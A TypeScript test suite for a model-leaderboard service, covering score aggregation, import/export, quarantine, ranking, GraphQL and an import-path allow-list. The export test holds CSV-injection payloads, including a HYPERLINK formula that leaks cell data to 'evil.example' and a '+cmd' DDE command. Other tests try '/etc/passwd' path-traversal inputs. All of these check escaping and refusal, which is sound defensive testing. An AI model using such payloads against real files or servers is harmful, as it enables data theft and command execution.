import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { graphql } from 'graphql';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { REPO_ROOT, type PrismaClient } from '@benchhub/db';
import { parseCsv } from '@benchhub/core/leaderboard';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { handleLeaderboardExport, handleLeaderboardExportNode } from '../../http/leaderboard-export';
import { schema } from '../../graphql/schema';
import type { GraphQLContext } from '../../graphql/context';
import {
  allowedServerImportPath,
  serverImportDirs,
  countLeaderboard,
  exportLeaderboardRows,
  importLeaderboard,
  leaderboardCsv,
  leaderboardModels,
  leaderboardRollups,
  personalizedRanking,
  seedLeaderboardIfEmpty,
  setEntryQuarantine,
  setModelQuarantine,
  upsertCellsFromRun,
  deleteEntry,
} from './index';
import { createTempDatabase, type TempDatabase } from '../../../test/support/temp-database';

const SEED = path.join(REPO_ROOT, '..', 'shared', 'fixtures', 'benchhubplus-seed-leaderboard.parquet');

let temp: TempDatabase;
let db: PrismaClient;

beforeAll(async () => {
  temp = await createTempDatabase();
  db = temp.db;
}, 60_000);

afterAll(async () => {
  await temp?.close();
});

beforeEach(async () => {
  await db.leaderboardEntry.deleteMany();
});

/** Samples with `correct` right answers out of `n` for one subject and task type. */
function samples(subject: string, taskType: string, correct: number, n: number) {
  return Array.from({ length: n }, (_, i) => ({ subjects: [subject], taskType, status: i < correct ? 'correct' : 'incorrect' }));
}

async function liveRun(modelName: string, cells: [subject: string, taskType: string, correct: number, n: number][], language = 'English', taskId = 'task-1') {
  return upsertCellsFromRun(db, {
    modelName,
    language,
    taskId,
    datasetVersion: 'ds-1',
    promptVersion: 'p-1',
    seed: 42,
    samples: cells.flatMap(([s, t, c, n]) => samples(s, t, c, n)),
  });
}

const cellOf = (modelName: string, subject: string, taskType: string, language = 'English') =>
  db.leaderboardEntry.findUniqueOrThrow({ where: { modelName_language_subject_taskType: { modelName, language, subject, taskType } } });

describe('upsertCellsFromRun', () => {
  it('writes LIVE cells with correct/n, Wilson interval and provenance; the newest LIVE run wins', async () => {
    const written = await upsertCellsFromRun(db, {
      modelName: 'm',
      language: 'Korean',
      taskId: 'task-a',
      datasetVersion: 'ds-1',
      promptVersion: 'p-1',
      seed: 7,
      samples: [
        ...samples('Science/Math', 'Reasoning', 3, 4),
        { subjects: ['Science/Math'], taskType: 'Reasoning', status: 'unparsed' },
        { subjects: ['Science/Math'], taskType: 'Reasoning', status: 'error' },
        { subjects: ['Social Intelligence/Value/Alignment'], taskType: 'Value/alignment', status: 'correct' },
      ],
    });
    expect(written).toBe(2);
    const math = await cellOf('m', 'Science/Math', 'Reasoning', 'Korean');
    expect(math).toMatchObject({ score: 3 / 5, n: 5, source: 'LIVE', taskId: 'task-a', datasetVersion: 'ds-1', promptVersion: 'p-1', seed: 7, coarseSubject: 'Science' });
    expect(math.ciLow).toBeGreaterThan(0);
    expect(math.ciHigh).toBeLessThan(1);
    expect((await cellOf('m', 'Social Intelligence/Value/Alignment', 'Value/Alignment', 'Korean')).coarseSubject).toBe('Social Intelligence');

    await upsertCellsFromRun(db, { modelName: 'm', language: 'Korean', taskId: 'task-b', datasetVersion: 'ds-1', promptVersion: 'p-1', seed: 8, samples: samples('Science/Math', 'Reasoning', 1, 2) });
    expect(await cellOf('m', 'Science/Math', 'Reasoning', 'Korean')).toMatchObject({ score: 0.5, n: 2, taskId: 'task-b', seed: 8 });
    expect(await countLeaderboard(db)).toBe(2);
  });

  it('keeps an admin quarantine when new live data arrives', async () => {
    await liveRun('m', [['Science/Math', 'Knowledge', 1, 2]]);
    const cell = await cellOf('m', 'Science/Math', 'Knowledge');
    await setEntryQuarantine(db, cell.id, true);
    await liveRun('m', [['Science/Math', 'Knowledge', 2, 2]], 'English', 'task-2');
    expect(await cellOf('m', 'Science/Math', 'Knowledge')).toMatchObject({ quarantined: true, score: 1 });
  });
});

describe('rollups', () => {
  it('pools fine subjects into their coarse category n-weighted (Σcorrect / Σn), not as a mean of means', async () => {
    await liveRun('m', [
      ['Science/Math', 'Reasoning', 9, 10],
      ['Science/Physics', 'Reasoning', 10, 100],
    ]);
    const [science] = await leaderboardRollups(db, { language: 'English' }, { level: 'COARSE' });
    expect(science).toMatchObject({ modelName: 'm', subject: 'Science', taskType: 'Reasoning', n: 110, correct: 19, weighting: 'N_WEIGHTED', cells: 2 });
    expect(science!.score).toBeCloseTo(19 / 110, 12);
    expect(science!.score).not.toBeCloseTo((0.9 + 0.1) / 2, 2);
    expect(science!.ciLow).toBeLessThan(19 / 110);
  });

  it('flags rollups with cells of unknown n as unweighted, without interval', async () => {
    await importLeaderboard(db, SEED);
    const rows = await leaderboardRollups(db, { language: 'English', subject: 'Science', modelSearch: 'Qwen2.5-72B' }, { level: 'COARSE', acrossTaskTypes: true });
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ subject: 'Science', taskType: null, weighting: 'UNWEIGHTED_UNKNOWN_N', n: null, ciLow: null });
    expect(rows[0]!.cellsWithUnknownN).toBe(rows[0]!.cells);
  });
});

describe('import of the BenchHub Plus seed', () => {
  it('imports 4,528 rows, 16 models, 63 subjects; normalizes Value/alignment; re-import changes nothing', async () => {
    const report = await importLeaderboard(db, SEED);
    expect(report).toMatchObject({ format: 'parquet', rows: 4528, inserted: 4528, updated: 0, unchanged: 0, skipped: 0, models: 16, subjects: 63 });
    expect(await countLeaderboard(db)).toBe(4528);
    const cell = await cellOf('Qwen_Qwen2.5-72B-Instruct', 'Art & Sports/Architecture', 'Knowledge');
    expect(cell).toMatchObject({ score: 0.5714285714285714, n: null, ciLow: null, source: 'IMPORTED', coarseSubject: 'Art & Sports', taskId: null });
    expect(await db.leaderboardEntry.count({ where: { taskType: 'Value/alignment' } })).toBe(0);
    expect(await db.leaderboardEntry.count({ where: { taskType: 'Value/Alignment' } })).toBeGreaterThan(0);
    expect((await leaderboardModels(db)).map((m) => m.modelName)).toHaveLength(16);

    const before = await db.leaderboardEntry.findMany({ orderBy: { id: 'asc' } });
    const again = await importLeaderboard(db, SEED);
    expect(again).toMatchObject({ rows: 4528, inserted: 0, updated: 0, unchanged: 4528, skipped: 0 });
    expect(await db.leaderboardEntry.findMany({ orderBy: { id: 'asc' } })).toEqual(before);
  }, 60_000);

  it('never overwrites a LIVE cell with an IMPORTED one, and LIVE replaces IMPORTED', async () => {
    await liveRun('Qwen_Qwen2.5-72B-Instruct', [['Art & Sports/Architecture', 'Knowledge', 1, 4]]);
    const report = await importLeaderboard(db, SEED);
    expect(report).toMatchObject({ inserted: 4527, keptLive: 1, skipped: 1 });
    expect(await cellOf('Qwen_Qwen2.5-72B-Instruct', 'Art & Sports/Architecture', 'Knowledge')).toMatchObject({ source: 'LIVE', score: 0.25, n: 4 });

    await liveRun('Qwen_Qwen2.5-72B-Instruct', [['Art & Sports/Architecture', 'Reasoning', 3, 4]]);
    expect(await cellOf('Qwen_Qwen2.5-72B-Instruct', 'Art & Sports/Architecture', 'Reasoning')).toMatchObject({ source: 'LIVE', score: 0.75, n: 4 });
    expect(await importLeaderboard(db, SEED)).toMatchObject({ inserted: 0, unchanged: 4526, keptLive: 2 });
  }, 60_000);

  it('skips invalid and duplicate rows with reasons, and updates changed IMPORTED cells (keeping quarantine)', async () => {
    const file = path.join(temp.dir, 'rows.json');
    const row = { model_name: 'x', language: 'English', subject_type: 'Science/Math', task_type: 'Knowledge', score: 0.5 };
    writeFileSync(file, JSON.stringify([row, { ...row, score: 0.9 }, { ...row, subject_type: 'Nope/Nothing' }, { ...row, task_type: 'Reasoning', score: 2 }]));
    const report = await importLeaderboard(db, file);
    expect(report).toMatchObject({ rows: 4, inserted: 1, invalid: 2, duplicates: 1, skipped: 3, models: 1 });
    expect(report.problems.map((p) => p.row)).toEqual([2, 3, 4]);

    const cell = await cellOf('x', 'Science/Math', 'Knowledge');
    await setEntryQuarantine(db, cell.id, true);
    writeFileSync(file, JSON.stringify([{ ...row, score: 0.75, n: 4 }]));
    expect(await importLeaderboard(db, file)).toMatchObject({ updated: 1, inserted: 0 });
    expect(await cellOf('x', 'Science/Math', 'Knowledge')).toMatchObject({ score: 0.75, n: 4, quarantined: true });
  });

  it('seeds only an empty leaderboard', async () => {
    const first = await seedLeaderboardIfEmpty(db, SEED);
    expect(first.seeded && first.report.inserted).toBe(4528);
    expect(await seedLeaderboardIfEmpty(db, SEED)).toMatchObject({ seeded: false, existingCells: 4528 });
    await expect(importLeaderboard(db, path.join(temp.dir, 'missing.csv'))).rejects.toMatchObject({ code: 'FILE_NOT_FOUND', params: { file: 'missing.csv' } });
  }, 60_000);

  it('refuses files it cannot read with a stable code and the values a client says it with, and saves nothing', async () => {
    const unreadable = path.join(temp.dir, 'broken.jsonl');
    writeFileSync(unreadable, '{"model_name": "a"}\nnot json\n');
    const unsupported = path.join(temp.dir, 'table.txt');
    writeFileSync(unsupported, 'model_name,score\n');
    const before = await countLeaderboard(db);
    await expect(importLeaderboard(db, unreadable)).rejects.toMatchObject({
      code: 'LEADERBOARD_FILE_UNREADABLE',
      params: { file: 'broken.jsonl' },
      issues: [{ path: 'file', code: 'LEADERBOARD_FILE_UNREADABLE' }],
    });
    await expect(importLeaderboard(db, unsupported)).rejects.toMatchObject({
      code: 'LEADERBOARD_FILE_UNSUPPORTED',
      params: { file: 'table.txt', formats: '.parquet, .csv, .json, .jsonl' },
      message: 'Unsupported leaderboard file "table.txt": use .parquet, .csv, .json or .jsonl',
    });
    expect(await countLeaderboard(db)).toBe(before);
  });
});

describe('export', () => {
  const snapshot = async () =>
    (await db.leaderboardEntry.findMany({ orderBy: [{ modelName: 'asc' }, { language: 'asc' }, { subject: 'asc' }, { taskType: 'asc' }] })).map((e) => ({
      modelName: e.modelName,
      language: e.language,
      subject: e.subject,
      coarseSubject: e.coarseSubject,
      taskType: e.taskType,
      score: e.score,
      n: e.n,
      ciLow: e.ciLow,
      ciHigh: e.ciHigh,
    }));

  it.each(['csv', 'json'] as const)('round-trips through %s: export → re-import gives the same cells', async (format) => {
    await importLeaderboard(db, SEED);
    await liveRun('live "quoted", model', [
      ['Social Intelligence/Value/Alignment', 'Value/Alignment', 2, 3],
      ['Science/Math', 'Reasoning', 7, 9],
    ]);
    const before = await snapshot();
    const rows = await exportLeaderboardRows(db, {});
    expect(rows).toHaveLength(4530);
    expect(Object.keys(rows[0]!)).toEqual(['model', 'language', 'subject', 'taskType', 'score', 'n', 'ciLow', 'ciHigh', 'source']);
    const file = path.join(temp.dir, `export.${format}`);
    writeFileSync(file, format === 'csv' ? leaderboardCsv(rows) : JSON.stringify(rows));

    await db.leaderboardEntry.deleteMany();
    const report = await importLeaderboard(db, file);
    expect(report).toMatchObject({ rows: 4530, inserted: 4530, skipped: 0 });
    expect(await snapshot()).toEqual(before);
  }, 60_000);

  it('escapes formula-looking cells in the HTTP and file CSV exports, and re-imports them unchanged', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A2)', "'=already"];
    for (const [i, name] of hostile.entries()) await liveRun(name, [['Science/Math', 'Reasoning', 1, 2]], 'English', `task-${i}`);
    const before = await snapshot();
    const response = await handleLeaderboardExport(new Request('http://localhost/export/leaderboard.csv?orderBy=MODEL_ASC'), { db });
    const text = await response!.text();
    expect(text).toBe(leaderboardCsv(await exportLeaderboardRows(db, {}, 'MODEL_ASC')));
    const models = parseCsv(text).slice(1).map((row) => row[0]!);
    expect(models.sort()).toEqual(hostile.map((name) => `'${name}`).sort());
    for (const line of parseCsv(text)) for (const cell of line) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const file = path.join(temp.dir, 'hostile.csv');
    writeFileSync(file, text);
    await db.leaderboardEntry.deleteMany();
    expect(await importLeaderboard(db, file)).toMatchObject({ rows: hostile.length, inserted: hostile.length });
    expect(await snapshot()).toEqual(before);
  });

  it('serves filtered views over HTTP as CSV and JSON, and ignores other paths', async () => {
    await importLeaderboard(db, SEED);
    const get = (url: string) => handleLeaderboardExport(new Request(`http://localhost${url}`), { db });
    expect(await get('/graphql')).toBeNull();

    const json = await get('/export/leaderboard.json?language=en&subject=Science&taskType=VALUE_ALIGNMENT&model=gemma-3-27b');
    expect(json!.status).toBe(200);
    const rows = (await json!.json()) as { model: string; subject: string; taskType: string; language: string }[];
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.every((r) => r.model === 'google_gemma-3-27b-it' && r.subject.startsWith('Science/') && r.taskType === 'Value/Alignment' && r.language === 'English')).toBe(true);

    const csv = await get('/export/leaderboard.csv?language=Korean&subject=Art%20%26%20Sports%2FArchitecture&taskType=Knowledge');
    expect(csv!.headers.get('content-type')).toContain('text/csv');
    const lines = (await csv!.text()).trim().split('\r\n');
    expect(lines[0]).toBe('model,language,subject,taskType,score,n,ciLow,ciHigh,source');
    expect(lines).toHaveLength(17);

    const bad = await get('/export/leaderboard.csv?language=French');
    expect(bad!.status).toBe(400);
    expect(((await bad!.json()) as { error: { code: string } }).error.code).toBe('INVALID_INPUT');
    expect((await handleLeaderboardExport(new Request('http://localhost/export/leaderboard.csv', { method: 'POST' }), { db }))!.status).toBe(405);
  }, 60_000);

  it('mounts on a Node http server beside other routes', async () => {
    await liveRun('m', [['Science/Math', 'Knowledge', 3, 4]]);
    const server = createServer((req, res) => {
      void handleLeaderboardExportNode(req, res, { db }).then((handled) => {
        if (!handled) res.writeHead(404).end('fallthrough');
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    try {
      const csv = await fetch(`${base}/export/leaderboard.csv?model=m`);
      expect(csv.headers.get('content-disposition')).toContain('leaderboard.csv');
      expect(await csv.text()).toBe(`model,language,subject,taskType,score,n,ciLow,ciHigh,source\r\n${leaderboardCsv(await exportLeaderboardRows(db, {})).split('\r\n')[1]}\r\n`);
      expect(await (await fetch(`${base}/graphql`)).text()).toBe('fallthrough');
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  });
});

describe('quarantine and delete', () => {
  it('hides quarantined cells from views and rankings unless includeQuarantined', async () => {
    await liveRun('good', [['Science/Math', 'Reasoning', 80, 100]]);
    await liveRun('bad', [['Science/Math', 'Reasoning', 99, 100]]);
    const plan = { language: 'English', subjects: ['Science/Math'], taskType: 'Reasoning' };
    expect((await personalizedRanking(db, plan)).models[0]!.modelName).toBe('bad');

    expect(await setModelQuarantine(db, 'bad', true)).toBe(1);
    const ranking = await personalizedRanking(db, plan);
    expect(ranking.models.map((m) => m.modelName)).toEqual(['good']);
    expect((await personalizedRanking(db, plan, ['bad', 'good'])).models.map((m) => [m.modelName, m.rank])).toEqual([
      ['good', 1],
      ['bad', null],
    ]);
    expect(await countLeaderboard(db)).toBe(1);
    expect(await countLeaderboard(db, { includeQuarantined: true })).toBe(2);
    expect((await leaderboardModels(db)).map((m) => m.modelName)).toEqual(['good']);
    expect((await leaderboardModels(db, { includeQuarantined: true })).find((m) => m.modelName === 'bad')).toMatchObject({ cells: 1, quarantinedCells: 1 });

    const bad = await cellOf('bad', 'Science/Math', 'Reasoning');
    const restored = await setEntryQuarantine(db, bad.id, false);
    expect(restored.updatedAt).toEqual(bad.updatedAt);
    expect((await personalizedRanking(db, plan)).models[0]!.modelName).toBe('bad');

    await deleteEntry(db, bad.id);
    expect(await countLeaderboard(db, { includeQuarantined: true })).toBe(1);
    await expect(deleteEntry(db, bad.id)).rejects.toMatchObject({ code: 'LEADERBOARD_ENTRY_NOT_FOUND', params: { id: bad.id } });
    await expect(setModelQuarantine(db, 'nobody', true)).rejects.toMatchObject({ code: 'LEADERBOARD_MODEL_NOT_FOUND', params: { model: 'nobody' } });
    await expect(setEntryQuarantine(db, 'gone', true)).rejects.toMatchObject({ code: 'LEADERBOARD_ENTRY_NOT_FOUND', params: { id: 'gone' } });
  });
});

describe('personalizedRanking', () => {
  it('ranks by the n-weighted plan score with interval-overlap ties, per-subject columns and coverage', async () => {
    await liveRun('alpha', [
      ['Science/Math', 'Reasoning', 180, 200],
      ['Science/Physics', 'Reasoning', 80, 100],
    ]);
    await liveRun('beta', [
      ['Science/Math', 'Reasoning', 176, 200],
      ['Science/Physics', 'Reasoning', 78, 100],
    ]);
    await liveRun('gamma', [['Science/Math', 'Reasoning', 60, 200]]);
    await liveRun('other-language', [['Science/Math', 'Reasoning', 200, 200]], 'Korean');

    const result = await personalizedRanking(db, { language: 'en', subjects: ['Science'], taskType: 'Reasoning' });
    expect(result.cellsNeeded).toBe(2);
    expect(result.models.map((m) => [m.modelName, m.rank, m.letters, m.cellsFound, m.coverage])).toEqual([
      ['alpha', 1, 'a', 2, 1],
      ['beta', 1, 'a', 2, 1],
      ['gamma', 3, 'b', 1, 0.5],
    ]);
    expect(result.models[0]).toMatchObject({ n: 300, correct: 260, weighting: 'N_WEIGHTED' });
    expect(result.models[0]!.score).toBeCloseTo(260 / 300, 12);
    expect(result.tiedGroups).toEqual([['alpha', 'beta'], ['gamma']]);
    expect(result.models[0]!.columns).toEqual([expect.objectContaining({ subject: 'Science', n: 300, cellsFound: 2, cellsNeeded: 2 })]);

    const requested = await personalizedRanking(db, { language: 'English', subjects: ['Science/Math', 'Science/Physics'], taskType: null }, ['gamma', 'unknown-model']);
    expect(requested.cellsNeeded).toBe(2);
    expect(requested.models.map((m) => [m.modelName, m.rank, m.cellsFound])).toEqual([
      ['gamma', 1, 1],
      ['unknown-model', null, 0],
    ]);
    expect(requested.models[0]!.columns.map((c) => [c.subject, c.cellsFound])).toEqual([
      ['Science/Math', 1],
      ['Science/Physics', 0],
    ]);

    await expect(personalizedRanking(db, { language: 'English', subjects: ['Alchemy'], taskType: null })).rejects.toMatchObject({ code: 'INVALID_INPUT' });
  });

  it('ranks the imported seed (unknown n) by unweighted means, flagged', async () => {
    await importLeaderboard(db, SEED);
    const result = await personalizedRanking(db, { language: 'Korean', subjects: ['HASS'], taskType: 'Knowledge' });
    expect(result.models).toHaveLength(16);
    // No n, no intervals: untested, ranked by score (equal scores share a rank), no tie groups.
    expect(result.models.every((m) => m.weighting === 'UNWEIGHTED_UNKNOWN_N' && !m.intervalKnown && m.letters === null)).toBe(true);
    expect(result.tiedGroups).toEqual([]);
    const scores = result.models.map((m) => m.score!);
    expect([...scores].sort((a, b) => b - a)).toEqual(scores);
    expect(result.models.map((m) => m.rank)).toEqual(scores.map((score) => 1 + scores.filter((s) => s > score).length));
    expect(result.models[0]!.rank).toBe(1);
    expect(result.models.at(-1)!.rank).toBeGreaterThan(1);
  }, 60_000);
});

describe('GraphQL', () => {
  // As a signed-in admin (every root field needs a caller; quarantine and import are admin operations).
  const context = () => ({ db, viewer: { id: 'u1', email: 'admin@example.test', name: 'Admin', role: 'ADMIN', via: 'token' } }) as unknown as GraphQLContext;
  const run = async <T>(source: string, variableValues?: Record<string, unknown>) => {
    const result = await graphql({ schema, source, variableValues, contextValue: context() });
    expect(result.errors).toBeUndefined();
    return result.data as T;
  };

  const PAGE = `query ($filter: LeaderboardFilter, $first: Int, $after: String, $orderBy: LeaderboardOrder) {
    leaderboard(filter: $filter, first: $first, after: $after, orderBy: $orderBy) {
      totalCount
      pageInfo { hasNextPage endCursor }
      edges { node { id modelName language subject coarseSubject taskType score n ciLow ciHigh source taskId datasetVersion promptVersion seed quarantined updatedAt } }
    }
  }`;
  type Page = {
    leaderboard: {
      totalCount: number;
      pageInfo: { hasNextPage: boolean; endCursor: string };
      edges: { node: { id: string; modelName: string; language: string; subject: string; taskType: string; score: number; quarantined: boolean } }[];
    };
  };

  it('pages a filtered, ordered connection with totalCount', async () => {
    await importLeaderboard(db, SEED);
    const filter = { language: 'KOREAN', subject: 'Science', taskType: 'KNOWLEDGE' };
    const expected = await db.leaderboardEntry.count({ where: { language: 'Korean', coarseSubject: 'Science', taskType: 'Knowledge' } });
    const seen: Page['leaderboard']['edges'] = [];
    let after: string | null = null;
    for (;;) {
      const page: Page = await run<Page>(PAGE, { filter, first: 50, after });
      expect(page.leaderboard.totalCount).toBe(expected);
      seen.push(...page.leaderboard.edges);
      if (!page.leaderboard.pageInfo.hasNextPage) break;
      after = page.leaderboard.pageInfo.endCursor;
    }
    expect(seen).toHaveLength(expected);
    expect(new Set(seen.map((e) => e.node.id)).size).toBe(expected);
    expect(seen.every((e) => e.node.language === 'KOREAN' && e.node.subject.startsWith('Science/') && e.node.taskType === 'KNOWLEDGE')).toBe(true);
    const scores = seen.map((e) => e.node.score);
    expect([...scores].sort((a, b) => b - a)).toEqual(scores);

    const fine = await run<Page>(PAGE, { filter: { subject: 'math', modelSearch: 'GEMMA-3-1B', language: 'ENGLISH' }, first: 10, orderBy: 'SCORE_ASC' });
    expect(fine.leaderboard.edges.every((e) => e.node.modelName === 'google_gemma-3-1b-it' && e.node.subject === 'Science/Math')).toBe(true);
    expect(fine.leaderboard.totalCount).toBe(fine.leaderboard.edges.length);
    expect(fine.leaderboard.totalCount).toBeGreaterThan(0);
  }, 60_000);

  it('quarantines, lists models, ranks and imports through mutations and queries', async () => {
    await liveRun('alpha', [['Science/Math', 'Reasoning', 90, 100]]);
    await liveRun('beta', [['Science/Math', 'Reasoning', 50, 100]]);
    const { leaderboard } = await run<Page>(PAGE, { first: 10 });
    const alphaId = leaderboard.edges.find((e) => e.node.modelName === 'alpha')!.node.id;

    const q = await run<{ quarantineLeaderboardEntry: { __typename: string; data?: { quarantined: boolean } } }>(
      `mutation ($id: ID!) { quarantineLeaderboardEntry(id: $id) { __typename ... on MutationQuarantineLeaderboardEntrySuccess { data { quarantined } } } }`,
      { id: alphaId },
    );
    expect(q.quarantineLeaderboardEntry.data?.quarantined).toBe(true);
    expect((await run<Page>(PAGE, { first: 10 })).leaderboard.totalCount).toBe(1);
    expect((await run<Page>(PAGE, { first: 10, filter: { includeQuarantined: true } })).leaderboard.totalCount).toBe(2);

    const missing = await run<{ deleteLeaderboardEntry: { __typename: string } }>(`mutation { deleteLeaderboardEntry(id: "nope") { __typename } }`);
    expect(missing.deleteLeaderboardEntry.__typename).toBe('NotFoundError');

    const models = await run<{ leaderboardModels: { name: string; cellCount: number; liveCells: number }[] }>(`{ leaderboardModels { name cellCount liveCells } }`);
    expect(models.leaderboardModels).toEqual([{ name: 'beta', cellCount: 1, liveCells: 1 }]);

    const RANK = `query ($plan: PlanInput!, $models: [String!]) {
      personalizedRanking(plan: $plan, models: $models) {
        __typename
        ... on QueryPersonalizedRankingSuccess { data { cellsNeeded columns tiedGroups { letter models } models { modelName rank tieGroup score n ciLow ciHigh weighting coverage columns { subject score } } } }
        ... on ValidationError { message }
      }
    }`;
    const plan = { language: 'ENGLISH', subjects: ['Science'], problemType: 'MCQA', sampleSize: 10 };
    const ranked = await run<{ personalizedRanking: { data: { models: { modelName: string; rank: number | null; weighting: string }[]; tiedGroups: unknown } } }>(RANK, {
      plan,
      models: ['alpha', 'beta'],
    });
    expect(ranked.personalizedRanking.data.models.map((m) => [m.modelName, m.rank, m.weighting])).toEqual([
      ['beta', 1, 'N_WEIGHTED'],
      ['alpha', null, 'N_WEIGHTED'],
    ]);
    const invalid = await run<{ personalizedRanking: { __typename: string } }>(RANK, { plan: { ...plan, subjects: ['Nope'] } });
    expect(invalid.personalizedRanking.__typename).toBe('ValidationError');

    const IMPORT = `mutation ($path: String!) { importLeaderboard(path: $path) { __typename ... on MutationImportLeaderboardSuccess { data { inserted models } } ... on BaseError { message } ... on ValidationError { code } } }`;
    type Imported = { importLeaderboard: { __typename: string; data?: { inserted: number; models: number }; code?: string; message?: string } };
    const previous = process.env.SERVER_IMPORT_DIRS;
    try {
      // By default the server reads only .data/imports: the seed (elsewhere) is refused, and so are paths out.
      delete process.env.SERVER_IMPORT_DIRS;
      const cellsBefore = await countLeaderboard(db);
      for (const outside of [SEED, '/etc/passwd', '../../../etc/passwd']) {
        const refused = await run<Imported>(IMPORT, { path: outside });
        expect(refused.importLeaderboard).toMatchObject({ __typename: 'ValidationError', code: 'PATH_NOT_ALLOWED' });
        expect(refused.importLeaderboard.message).toContain('SERVER_IMPORT_DIRS');
      }
      expect(await countLeaderboard(db)).toBe(cellsBefore);

      process.env.SERVER_IMPORT_DIRS = path.dirname(SEED);
      const imported = await run<Imported>(IMPORT, { path: path.basename(SEED) });
      expect(imported.importLeaderboard.data).toEqual({ inserted: 4528, models: 16 });
    } finally {
      if (previous === undefined) delete process.env.SERVER_IMPORT_DIRS;
      else process.env.SERVER_IMPORT_DIRS = previous;
    }

    const rollups = await run<{ leaderboardRollups: { modelName: string; subject: string | null; weighting: string }[] }>(
      `{ leaderboardRollups(filter: { language: ENGLISH, modelSearch: "beta" }, level: OVERALL, acrossTaskTypes: true) { modelName subject weighting n score } }`,
    );
    expect(rollups.leaderboardRollups).toEqual([{ modelName: 'beta', subject: null, weighting: 'N_WEIGHTED', n: 100, score: 0.5 }]);
  }, 60_000);
});

describe('allowedServerImportPath', () => {
  it('accepts files inside the allowed directories and refuses everything else, symlinks included', async () => {
    const { mkdtempSync, mkdirSync, symlinkSync } = await import('node:fs');
    const os = await import('node:os');
    const root = mkdtempSync(path.join(os.tmpdir(), 'benchhub-import-dirs-'));
    const allowed = path.join(root, 'imports');
    mkdirSync(allowed);
    writeFileSync(path.join(allowed, 'seed.csv'), 'model_name,language,subject_type,task_type,score\n');
    writeFileSync(path.join(root, 'secret.txt'), 'no');
    symlinkSync(path.join(root, 'secret.txt'), path.join(allowed, 'link.csv'));
    expect(allowedServerImportPath('seed.csv', [allowed])).toBe(path.join(allowed, 'seed.csv'));
    expect(allowedServerImportPath(path.join(allowed, 'missing.csv'), [allowed])).toBe(path.join(allowed, 'missing.csv'));
    for (const refused of ['../secret.txt', path.join(root, 'secret.txt'), 'link.csv', `${allowed}-other/x.csv`, '/']) {
      expect(() => allowedServerImportPath(refused, [allowed])).toThrow(expect.objectContaining({ code: 'PATH_NOT_ALLOWED' }));
    }
    expect(serverImportDirs({})).toEqual([path.join(REPO_ROOT, '.data', 'imports')]);
    expect(serverImportDirs({ SERVER_IMPORT_DIRS: `/srv/a${path.delimiter}relative/b` })).toEqual(['/srv/a', path.join(REPO_ROOT, 'relative', 'b')]);
  });
});
